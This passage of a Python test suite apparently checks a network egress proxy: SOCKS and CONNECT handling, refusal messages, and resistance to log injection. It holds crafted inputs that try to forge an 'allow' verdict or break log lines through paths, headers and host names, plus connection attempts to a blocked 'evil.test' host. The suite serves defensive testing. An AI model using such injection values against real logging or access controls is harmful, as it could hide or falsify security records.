    if version == 5: s.sendall(b"\x05\x01\x00"); s.recv(2); s.sendall(b"\x05\x01\0\x01" + a); code = s.recv(10)[1]
    else: s.sendall(b"\x04\x01" + a[4:] + a[:4] + b"\0"); code = s.recv(8)[1] - 90
    if code: return code
    s.sendall(b"GET /by-address HTTP/1.1\r\nHost: open.test:8080\r\nConnection: close\r\n\r\n"); return text(everything(s, 20))[:12]
mine = [a for a in resolves("open.test") if ":" not in a][0]; connect = b"CONNECT %s:8080 HTTP/1.1\r\n\r\nGET /by-address HTTP/1.1\r\nHost: open.test:8080\r\nConnection: close\r\n\r\n"
done([socks(mine), socks(mine, 4), raw(*PROXY, connect % mine.encode())[:12], socks("198.18.77.77"), socks("198.18.77.77", 4), raw(*PROXY, connect % b"198.18.77.77")[:12]])''')
        self.assertEqual(r, ["HTTP/1.1 200"] * 3 + [2, 1, "HTTP/1.1 403"])
        self.assertEqual([c["host"] for c in self.events(records, "connection")], ["open.test"] * 3)


class Refusals(Case):
    FIELDS = {"host", "port", "method", "path", "reason", "rule", "allow_with"}

    def test_each_has_all_its_fields(self):
        r, records = self.inside(r'''q = b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n"
done([raw("open.test", HTTP, b"GET /fine HTTP/1.1\r\nHost: open.test:8080\r\n\r\nGET / HTTP/1.1\r\nX : y\r\n\r\n").split("\r\n\r\n")[-1], raw("open.test", HTTP, q % b"a b").split("\r\n\r\n")[1],
  raw("open.test", HTTP, q % b"evil.test").split("\r\n\r\n")[1], raw("methods.test", HTTP, b"PUT /p?q HTTP/1.1\r\nHost: methods.test:8080\r\nContent-Length: 0\r\n\r\n").split("\r\n\r\n")[1],
  raw("203.0.113.9", HTTP, q % b"open.test").split("\r\n\r\n")[1], raw(*PROXY, b"CONNECT evil.test:443 HTTP/1.1\r\n\r\n").split("\r\n\r\n")[1],
  raw(*PROXY, q % b"x").split("\r\n\r\n")[1]])''')
        for body in r:
            self.assertEqual(set(json.loads(body)), self.FIELDS, body)
        first, second, third, fourth, fifth, connect, _ = map(json.loads, r)
        self.assertEqual([(b["host"], b["port"]) for b in (first, second, third, fourth, fifth)],
                         [("open.test", HTTP)] * 3 + [("methods.test", HTTP), ("203.0.113.9", HTTP)])
        self.assertEqual((connect["host"], connect["method"], connect["port"]), ("evil.test", "CONNECT", 443))
        self.assertNotIn("network.allow", first["rule"], "the rule of the request before it")
        self.assertEqual((fourth["path"], fourth["method"]), ("/p", "PUT"))
        self.assertEqual(fifth["allow_with"], "--allow 203.0.113.9:8080", "the rule that refuses counts, not what the request says")
        for body in r[:6]:
            b = json.loads(body)
            self.assertTrue(any(d["reason"] == b["reason"] and d.get("host", "") == b["host"] for d in self.events(records, "denied")), b)

    def test_a_record_is_one_line_whatever_the_program_sends(self):
        """No byte that starts a line or a field of a record comes through a path, a method, a host or a name."""
        r, records = self.inside(r'''evil = b"/%0a%22,%22verdict%22:%22allow" + b'","verdict":"allow","x":"' + b"\\u0022"
raw("methods.test", HTTP, b"PUT " + evil + b" HTTP/1.1\r\nHost: methods.test:8080\r\n\r\n"); raw("open.test", HTTP, b"GET / HTTP/1.1\r\nHost: a\x1b[2J\"\r\n\r\n"); raw("open.test", HTTP, b"GET /\n{} HTTP/1.1\r\n\r\n")
resolves("x\"\n.test"); done(1)''')
        denied = self.events(records, "denied")
        self.assertEqual({d["verdict"] for d in denied}, {"deny"})
        self.assertTrue(any(d.get("path", "").endswith('\\u0022') for d in denied), denied)
        self.assertFalse(any(c < " " for d in denied for v in d.values() if isinstance(v, str) for c in v))


if __name__ == "__main__":
    guard_stage.enter()
    unittest.main(verbosity=2)
